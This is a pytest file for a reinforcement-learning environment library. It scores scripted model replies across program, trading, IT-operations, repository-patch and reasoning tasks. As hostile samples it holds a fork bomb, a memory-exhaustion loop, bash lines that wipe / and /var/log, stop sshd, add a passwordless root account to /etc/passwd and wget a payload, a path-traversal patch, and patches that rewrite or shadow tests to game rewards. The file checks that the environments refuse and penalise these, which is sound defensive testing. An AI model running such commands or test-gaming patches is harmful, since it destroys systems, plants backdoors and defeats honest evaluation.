# ruff: noqa: E501  (replies and patches are kept on one line each, as a model writes them)
"""The tool-use, operations, repository, reasoning-gym and C++/JavaScript domains, each
with scripted replies (correct, wrong, malformed, hostile)."""

from __future__ import annotations

import json

import pytest

from rlvr.envs import EnvSettings, make_env
from rlvr.envs.base import run_sync
from rlvr.rewards.extract import extract_code
from rlvr.tasks.generators import programgen
from rlvr.tasks.loader import BUNDLED_DIR, load_tasks
from rlvr.types import Task


def _episode(task: Task, replies: list[str], settings: EnvSettings | None = None) -> list:  # type: ignore[type-arg]
    env = make_env(task.domain, settings or EnvSettings())
    run_sync(env.reset(task))
    out = []
    for reply in replies:
        r = run_sync(env.step(reply))
        out.append(r)
        if r.done:
            break
    return out


# ---- C++ and JavaScript programs -------------------------------------------------------


def test_extract_code_picks_the_block_of_the_language() -> None:
    reply = "Run it with:\n```bash\ng++ main.cpp\n```\nCode:\n```cpp\nint main() {}\n```"
    assert extract_code(reply, "cpp") == "int main() {}\n"
    assert extract_code("```js\nconsole.log(1)\n```", "javascript") == "console.log(1)\n"
    assert extract_code("```\nconsole.log(1)\n```", "javascript") == "console.log(1)\n"  # untagged counts
    assert extract_code("```cpp\nint main() {}\n```", "python") == "```cpp\nint main() {}\n```"  # no python block


@pytest.mark.regeneration
@pytest.mark.parametrize("lang", ["cpp", "javascript"])
def test_program_sets_regenerate_identically(lang: str) -> None:
    built = programgen.build(lang)
    lines = (BUNDLED_DIR / f"programs_{lang}.jsonl").read_text().splitlines()
    assert [json.loads(x) for x in lines] == [t.to_dict() for t in built]
    assert len(built) == 20 and {t.difficulty for t in built} == {1, 2, 3}
    assert all(t.domain == lang and t.metadata["language"] == lang for t in built)


@pytest.mark.parametrize("lang", ["cpp", "javascript"])
def test_every_reference_program_passes_in_the_sandbox(lang: str) -> None:
    programgen.verify(load_tasks(f"bundled:programs_{lang}"))


CPP_HOSTILE = "```cpp\n#include <unistd.h>\nint main() { while (true) fork(); }\n```"
JS_HOSTILE = "```javascript\nconst a = []; while (true) a.push(new Array(1e6).fill(1));\n```"


@pytest.mark.parametrize(
    ("lang", "good", "wrong", "malformed", "hostile"),
    [
        (
            "cpp",
            "```cpp\n#include <iostream>\nint main() { long long n, s = 0, x; std::cin >> n;"
            " while (n--) { std::cin >> x; s += x; } std::cout << s << std::endl; }\n```",
            "```cpp\n#include <iostream>\nint main() { std::cout << 0 << std::endl; }\n```",
            "```cpp\nint main() { return 0 }\n```",
            CPP_HOSTILE,
        ),
        (
            "javascript",
            '```javascript\nconst t = require("fs").readFileSync(0, "utf8").trim().split(/\\s+/).map(BigInt);\n'
            "console.log(t.slice(1).reduce((a, b) => a + b, 0n).toString());\n```",
            "```javascript\nconsole.log(0);\n```",
            "```javascript\nconsole.log(;\n```",
            JS_HOSTILE,
        ),
    ],
)
def test_program_env_rewards(lang: str, good: str, wrong: str, malformed: str, hostile: str) -> None:
    task = next(t for t in load_tasks(f"bundled:programs_{lang}") if t.id.endswith("sum_numbers"))
    (r,) = _episode(task, [good])
    assert r.done and r.reward.total == 1.0
    (r,) = _episode(task, [wrong])
    assert not r.done and r.reward.total == 0.0 and "0 of 6 tests passed" in r.messages[0]["content"]
    (r,) = _episode(task, [malformed])
    assert r.reward.total == 0.0
    if lang == "cpp":
        assert r.execution.status.value == "COMPILE_ERROR" and "did not compile" in r.messages[0]["content"]
        assert "error" in r.messages[0]["content"]  # the compiler's message is quoted back
    else:
        assert "SyntaxError" in r.messages[0]["content"]
    (r,) = _episode(task, [hostile])
    assert r.reward.total <= 0.0 and not r.done


def test_program_env_second_attempt_fixes_the_first() -> None:
    task = next(t for t in load_tasks("bundled:programs_javascript") if t.id.endswith("max_min"))
    wrong = "```javascript\nconsole.log('1 1');\n```"
    good = (
        '```javascript\nconst t = require("fs").readFileSync(0, "utf8").trim().split(/\\s+/).map(Number);\n'
        "const a = t.slice(1); console.log(Math.max(...a) + ' ' + Math.min(...a));\n```"
    )
    first, second = _episode(task, [wrong, good])
    assert not first.done and first.reward.total < 1.0 and second.done and second.reward.total == 1.0


def test_program_tasks_skip_the_python_analyses() -> None:
    from rlvr.rewards.scorer import is_code_task

    cpp = load_tasks("bundled:programs_cpp")[0]
    assert not is_code_task(cpp)
    assert is_code_task(load_tasks("bundled:python_functions")[0])


# ---- trading tool use ------------------------------------------------------------------

TRADE = Task(
    id="trading/t",
    domain="trading",
    prompt="Goal: hold exactly 30 ACME.",
    tests={
        "format": "trading",
        "account": {"cash": 1000.0, "positions": {"ACME": 10, "BOLT": 5}},
        "quotes": {"ACME": {"bid": 19.9, "ask": 20.0}, "BOLT": {"bid": 9.9, "ask": 10.0}},
        "rules": {"no_short": True, "max_order_qty": 15, "restricted": ["BOLT"]},
        "goal": {"type": "hold", "symbol": "ACME", "qty": 30},
    },
)


def test_trading_multi_turn_reaches_the_goal_after_reading_the_account() -> None:
    first, second = _episode(
        TRADE,
        [
            'Let me look first. {"tool": "get_account"}',
            '```json\n[{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 15},'
            ' {"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 5}, {"tool": "done"}]\n```',
        ],
    )
    assert not first.done and '"positions": {"ACME": 10, "BOLT": 5}' in first.messages[0]["content"]
    assert first.reward.total == 0.0  # goal not reached yet
    assert second.done and second.reward.total == 1.0
    assert second.reward.components == {"completion": 1.0, "goal": 1.0, "rules": 0.0, "calls": 0.0}


@pytest.mark.parametrize(
    ("reply", "total", "goal", "rules", "calls"),
    [
        # wrong: the goal is missed (bought 10 instead of 20)
        ('{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 10} {"tool": "done"}', 0.0, 0.0, 0.0, 0.0),
        # breaking a rule: one order over the per-order limit is rejected, then done right
        (
            '{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 20}'
            '{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 10}'
            '{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 10}{"tool": "done"}',
            0.75,
            1.0,
            -0.25,
            0.0,
        ),
        # malformed: broken JSON and an unknown tool
        (
            '{"tool": "place_order", "symbol": ACME} {"tool": "set_cash", "cash": 1e9} {"tool": "done"}',
            -0.1,
            0,
            0,
            -0.1,
        ),
        # hostile: a restricted symbol, short selling, a string qty, a price of its own (ignored; over the limit)
        (
            '{"tool": "place_order", "symbol": "BOLT", "side": "sell", "qty": 5}'
            '{"tool": "place_order", "symbol": "ACME", "side": "sell", "qty": 11}'
            '{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": "20"}'
            '{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 20, "price": 0}{"tool": "done"}',
            -0.8,
            0.0,
            -0.75,
            -0.05,
        ),
    ],
)
def test_trading_rewards(reply: str, total: float, goal: float, rules: float, calls: float) -> None:
    (r,) = _episode(TRADE, [reply])
    assert r.done
    assert r.reward.total == pytest.approx(total)
    c = r.reward.components
    assert (c["goal"], c["rules"], c["calls"]) == pytest.approx((goal, rules, calls))


def test_trading_state_is_unchanged_when_a_step_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    from rlvr.envs import trading

    env = make_env("trading", EnvSettings())
    run_sync(env.reset(TRADE))
    original = trading.Brokerage.call

    def flaky(self: trading.Brokerage, call: dict) -> dict:  # type: ignore[type-arg]
        if call.get("qty") == 5:
            raise RuntimeError("simulator crashed")
        return original(self, call)

    monkeypatch.setattr(trading.Brokerage, "call", flaky)
    reply = (
        '{"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 15}'
        ' {"tool": "place_order", "symbol": "ACME", "side": "buy", "qty": 5}'
    )
    with pytest.raises(RuntimeError):
        run_sync(env.step(reply))
    monkeypatch.setattr(trading.Brokerage, "call", original)
    r = run_sync(env.step(reply + '{"tool": "done"}'))  # the retry sees the untouched account
    assert r.reward.total == 1.0


@pytest.mark.regeneration
def test_bundled_trading_tasks_regenerate_and_their_plans_score_full() -> None:
    from rlvr.tasks.generators import tradinggen

    tasks = tradinggen.build()
    lines = (BUNDLED_DIR / "trading.jsonl").read_text().splitlines()
    assert [json.loads(x) for x in lines] == [t.to_dict() for t in tasks]
    assert {t.difficulty for t in tasks} == {1, 2, 3} and len(tasks) == 105
    tradinggen.verify(tasks)


def test_trading_task_errors_name_the_field() -> None:
    bad = Task(id="t/bad", domain="trading", prompt="x", tests={**TRADE.tests, "goal": {"type": "moon"}})
    with pytest.raises(ValueError, match=r"t/bad: tests\.goal\.type must be one of"):
        _episode(bad, [])


# ---- IT-operations dry run -------------------------------------------------------------


def _itops(kind: str) -> Task:
    return next(t for t in load_tasks("bundled:itops") if t.id == f"itops/{kind}/0")


def test_itops_second_turn_fixes_what_the_journal_showed() -> None:
    task = _itops("broken")  # webapp: 'timeout' misspelt 'timeuot' in its config
    first, second, third = _episode(
        task,
        [
            "```bash\nsystemctl start webapp\njournalctl -u webapp\n```",
            "```bash\nsed -i 's/timeuot/timeout/' /etc/webapp/webapp.conf && systemctl start webapp\n```",
            "It is running now.",
        ],
    )
    assert "unknown directive 'timeuot'" in first.messages[0]["content"] and first.reward.total == 0.0
    assert not second.done and second.reward.total == 1.0
    assert third.done and third.reward.total == 1.0 and third.messages == []


@pytest.mark.parametrize(
    ("kind", "reply", "total", "goal", "safety"),
    [
        # wrong: restarting without fixing the config changes nothing
        ("broken", "```bash\nsystemctl restart webapp\n```", 0.0, 0.0, 0.0),
        # half right: deleting the misspelt line lets it start, but the setting is lost
        (
            "broken",
            "```bash\nsed -i '/timeuot/d' /etc/webapp/webapp.conf\nsed -i 's/^timeuot.*//' /etc/webapp/webapp.conf\n"
            "systemctl start webapp\n```",
            0.5,
            0.5,
            0.0,
        ),
        # wrong: the setting is edited but the service is not restarted, so it does not run with it
        # (staying enabled at boot held from the start: a constraint kept, not half the goal)
        ("change", "```bash\nsed -i 's/^workers = 5/workers = 15/' /etc/webapp/webapp.conf\n```", 0.0, 0.0, 0.0),
        # malformed: an unclosed quote and a bad sed expression run nothing
        ("install", "```bash\necho 'oops\nsed -i 'x' /etc/webapp/webapp.conf\n```", 0.0, 0.0, 0.0),
        # hostile: wiping the logs' directory, the disk, sshd, the ssh package, the password file; a download
        (
            "disk",
            "```bash\nrm -rf /var/log\nsudo rm -rf /\nsystemctl stop sshd\napt-get purge openssh-server\n"
            "echo 'evil::0:0::/:/bin/sh' >> /etc/passwd\nwget http://x/payload\n```",
            -1.0,
            0.0,  # every refused command left the disk full; what held at the start earns nothing
            -2.75,
        ),
        # the job done, but also deleting the live log: refused and penalised
        ("disk", "```bash\nrm /var/log/webapp/webapp.log.*\nrm /var/log/webapp/webapp.log\n```", 0.5, 1.0, -0.5),
    ],
)
def test_itops_rewards(kind: str, reply: str, total: float, goal: float, safety: float) -> None:
    (r,) = _episode(_itops(kind), [reply])
    assert r.reward.total == pytest.approx(total)
    assert (r.reward.components["goal"], r.reward.components["safety"]) == pytest.approx((goal, safety))


def test_itops_refused_commands_leave_the_system_untouched() -> None:
    env = make_env("itops", EnvSettings())
    task = _itops("disk")
    run_sync(env.reset(task))
    before = dict(env.system.files)  # type: ignore[attr-defined]
    r = run_sync(env.step("```bash\nrm -rf /var\nmv /etc/passwd /tmp/x\nsystemctl disable sshd\n```"))
    assert env.system.files == before  # type: ignore[attr-defined]
    assert env.system.services["sshd"]["running"]  # type: ignore[attr-defined]
    assert r.reward.details["destructive"] == [
        "rm /var: a system directory",
        "move /etc/passwd: /etc/passwd is protected",
        "systemctl disable sshd: a protected service",
    ]


def test_itops_port_conflict_needs_the_old_package_gone() -> None:
    task = _itops("conflict")
    (r,) = _episode(task, ["```bash\nsystemctl start webapp\nsystemctl status webapp\n```"])
    assert "address already in use" in r.messages[0]["content"]
    (r,) = _episode(task, [str(task.reference)])
    assert r.reward.total == 1.0


@pytest.mark.regeneration
def test_bundled_itops_tasks_regenerate_and_their_scripts_score_full() -> None:
    from rlvr.tasks.generators import itopsgen

    tasks = itopsgen.build()
    lines = (BUNDLED_DIR / "itops.jsonl").read_text().splitlines()
    assert [json.loads(x) for x in lines] == [t.to_dict() for t in tasks]
    assert {t.difficulty for t in tasks} == {1, 2, 3} and len(tasks) == 80
    itopsgen.verify(tasks)


def test_itops_task_errors_name_the_field() -> None:
    task = _itops("install")
    bad = Task(id="i/bad", domain="itops", prompt="x", tests={**task.tests, "goal": [{"type": "vibes"}]})
    with pytest.raises(ValueError, match=r"i/bad: tests\.goal\[0\]\.type must be one of"):
        _episode(bad, [])


# ---- repository tests by patch ---------------------------------------------------------

from rlvr.envs.patching import PatchError, apply_patch, extract_patch, make_patch, parse_patch  # noqa: E402

REPO = {"pkg/__init__.py": "", "pkg/core.py": "def add(a, b):\n    return a - b\n\n\ndef neg(a):\n    return -a\n"}


def test_patch_applies_by_content_despite_wrong_line_numbers() -> None:
    patch = "--- a/pkg/core.py\n+++ b/pkg/core.py\n@@ -40,2 +40,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n"
    out = apply_patch(REPO, parse_patch(patch))
    assert out["pkg/core.py"] == "def add(a, b):\n    return a + b\n\n\ndef neg(a):\n    return -a\n"
    assert REPO["pkg/core.py"].count("a - b") == 1  # the input is not changed


def test_patch_creates_and_deletes_files_and_round_trips() -> None:
    after = {"pkg/core.py": "x = 1\n", "pkg/new.py": "y = 2\n"}
    patch = make_patch(REPO, after)
    assert apply_patch(REPO, parse_patch(patch)) == after


@pytest.mark.parametrize(
    ("patch", "error"),
    [
        ("just prose", "no file patch found"),
        (
            "--- a/pkg/core.py\n+++ b/pkg/core.py\n@@ -1 +1 @@\n-    return a * b\n+    return a + b\n",
            "hunk 1 does not match",
        ),
        ("--- a/../etc/passwd\n+++ b/../etc/passwd\n@@ -1 +1 @@\n-x\n+y\n", "not a plain relative path"),
        ("--- a/nope.py\n+++ b/nope.py\n@@ -1 +1 @@\n-x\n+y\n", "no such file"),
    ],
)
def test_patch_errors_say_what_is_wrong(patch: str, error: str) -> None:
    with pytest.raises(PatchError, match=error):
        apply_patch(REPO, parse_patch(patch))


def test_extract_patch_from_a_reply() -> None:
    body = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"
    assert extract_patch(f"Here is the fix:\n```diff\n{body}```\nDone.") == body
    assert extract_patch(f"Fix:\n{body}") == body
    assert extract_patch("```python\nprint(1)\n```") == ""


def _repo_task(name: str) -> Task:
    return next(t for t in load_tasks("bundled:repository") if t.id == f"repository/{name}")


def test_repository_env_rewards_and_feedback() -> None:
    task = _repo_task("statkit/two_bugs")  # median parity and value_range both broken
    half = "```diff\n--- a/statkit/central.py\n+++ b/statkit/central.py\n@@ -13,3 +13,3 @@\n-    if n % 2 == 0:\n+    if n % 2:\n```"
    rest = "```diff\n--- a/statkit/spread.py\n+++ b/statkit/spread.py\n@@ -20 +20 @@\n-    return max(xs) - max(xs)\n+    return max(xs) - min(xs)\n```"
    first, second = _episode(task, [half, rest])  # patches accumulate over turns
    assert not first.done and first.reward.total == pytest.approx(5 / 6)
    assert "FAILED tests/test_stats.py::test_value_range: assert 0 == 9" in first.messages[0]["content"]
    assert second.done and second.reward.total == 1.0


@pytest.mark.parametrize(
    ("reply", "total", "says"),
    [
        ("I think the median is wrong.", 0.0, "No patch found"),  # malformed: no diff
        (
            "```diff\n--- a/statkit/central.py\n+++ b/statkit/central.py\n@@ -1 +1 @@\n-nothing like this\n+x\n```",
            0.0,
            "hunk 1",
        ),
        # hostile: rewriting the tests so that they pass is refused and penalised
        (
            "```diff\n--- a/tests/test_stats.py\n+++ b/tests/test_stats.py\n@@ -1,1 +1,1 @@\n-import math\n+import math; import sys\n```",
            -0.5,
            "Patch refused: it changes tests/test_stats.py",
        ),
        # hostile: a file beside the package that would shadow pytest is refused too
        ("```diff\n--- /dev/null\n+++ b/pytest.py\n@@ -0,0 +1 @@\n+def main(*a, **k): pass\n```", -0.5, "pytest.py"),
    ],
)
def test_repository_env_refuses_and_penalises(reply: str, total: float, says: str) -> None:
    task = _repo_task("statkit/median_even")
    (r,) = _episode(task, [reply])
    assert not r.done and r.reward.total == pytest.approx(total) and says in r.messages[0]["content"]


def test_repository_env_reads_a_real_git_repository(tmp_path) -> None:  # type: ignore[no-untyped-def]
    import subprocess

    files = {**REPO, "tests/test_core.py": "from pkg.core import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"}
    for path, text in files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    git = ["git", "-C", str(tmp_path), "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "init"], check=True)
    task = Task(
        id="repo/git",
        domain="repository",
        prompt="fix add",
        tests={
            "format": "repository",
            "repo": {"path": str(tmp_path)},
            "editable": ["pkg/"],
            "test_file": "tests/test_core.py",
        },
    )
    (wrong,) = _episode(
        task,
        [
            "```diff\n--- a/pkg/core.py\n+++ b/pkg/core.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a * b\n```"
        ],
    )
    assert wrong.reward.total == 0.0 and "assert 6 == 5" in wrong.messages[0]["content"]
    (good,) = _episode(
        task,
        [
            "```diff\n--- a/pkg/core.py\n+++ b/pkg/core.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n```"
        ],
    )
    assert good.done and good.reward.total == 1.0


@pytest.mark.regeneration
def test_bundled_repository_tasks_regenerate_and_their_patches_score_full() -> None:
    from rlvr.tasks.generators import repogen

    tasks = repogen.build()
    lines = (BUNDLED_DIR / "repository.jsonl").read_text().splitlines()
    assert [json.loads(x) for x in lines] == [t.to_dict() for t in tasks]
    assert {t.difficulty for t in tasks} == {1, 2, 3} and len(tasks) == 16
    repogen.verify(tasks)


def test_repository_task_errors_name_the_field() -> None:
    task = _repo_task("statkit/median_even")
    bad = Task(id="r/bad", domain="repository", prompt="x", tests={**task.tests, "editable": ["tests/"]})
    with pytest.raises(
        ValueError, match=r"r/bad: tests\.test_file 'tests/test_stats\.py' lies under an editable prefix"
    ):
        _episode(bad, [])


# ---- reasoning-gym ---------------------------------------------------------------------


@pytest.mark.regeneration
def test_bundled_reasoning_gym_tasks_regenerate_and_score_with_their_own_scorers() -> None:
    from rlvr.tasks.generators import rggen

    tasks = rggen.build()
    lines = (BUNDLED_DIR / "reasoning_gym.jsonl").read_text().splitlines()
    assert [json.loads(x) for x in lines] == [t.to_dict() for t in tasks]
    assert len(tasks) == 144 and {t.difficulty for t in tasks} == {1, 2, 3}
    rggen.verify(tasks)


def test_reasoning_gym_time_intervals_read_the_pinned_day_not_the_clock() -> None:
    import datetime as dt

    import reasoning_gym

    from rlvr.tasks.generators import rggen

    # A day that is never today: every clock-derived field must carry it.
    day = dt.date(2031, 2, 28)
    with rggen.pinned_today(day):
        entries = list(reasoning_gym.create_dataset("time_intervals", size=40, seed=3))
    clocked = [e for e in entries if e["metadata"]["task_type"].startswith("time")]
    assert len(clocked) >= 5
    for e in clocked:  # both the date.today() base and dateutil's now()-filled parse
        assert str(e["metadata"]["start_time"]).startswith("2031-02-28"), e["metadata"]
        assert str(e["metadata"]["end_time"]).startswith(("2031-02-28", "2031-03-01")), e["metadata"]
    # the pin is undone afterwards
    from reasoning_gym.arithmetic import time_intervals

    assert time_intervals.date is dt.date


@pytest.mark.parametrize(
    ("reply", "value"),
    [
        ("The GCD is 2.\n<answer>2</answer>", 1.0),  # correct
        ("<answer>4</answer>", 0.0),  # wrong
        ("", 0.0),  # malformed: nothing to read
        ("<answer>__import__('os').system('rm -rf /')</answer>", 0.0),  # hostile text is only compared
    ],
)
def test_reasoning_env_rewards(reply: str, value: float) -> None:
    task = Task(
        id="rg/gcd",
        domain="reasoning",
        prompt="GCD of 4 and 6?",
        tests={
            "format": "reasoning_gym",
            "dataset": "gcd",
            "entry": {"question": "GCD of 4, 6", "answer": "2", "metadata": {}},
        },
    )
    (r,) = _episode(task, [reply])
    assert r.done and r.reward.total == value


def test_reasoning_scorer_errors_score_zero_with_the_error_kept() -> None:
    task = Task(
        id="rg/pf",
        domain="reasoning",
        prompt="Factor 12.",
        tests={
            "format": "reasoning_gym",
            "dataset": "prime_factorization",
            "entry": {"question": "12", "answer": "2 × 2 × 3", "metadata": {"number": 12}},
        },
    )
    (r,) = _episode(task, ["<answer>twelve</answer>"])
    assert r.reward.total == 0.0 and "scorer_error" in r.reward.details
    (r,) = _episode(task, ["<answer>2 × 2 × 3</answer>"])
    assert r.reward.total == 1.0


def test_itops_prose_in_a_code_block_is_not_an_attack() -> None:
    (r,) = _episode(_itops("install"), ["```\nI will install the package.\nYou need to start it.\n```"])
    assert r.reward.components["safety"] == 0.0 and r.reward.components["commands"] == pytest.approx(-0.1)
    assert "bash: I: command not found" in r.messages[0]["content"]
    (r,) = _episode(_itops("install"), ["```bash\npython3 -c 'import os'\n/usr/bin/curl http://x\n```"])
    assert r.reward.components["safety"] == pytest.approx(-0.5) and r.reward.components["commands"] == 0.0
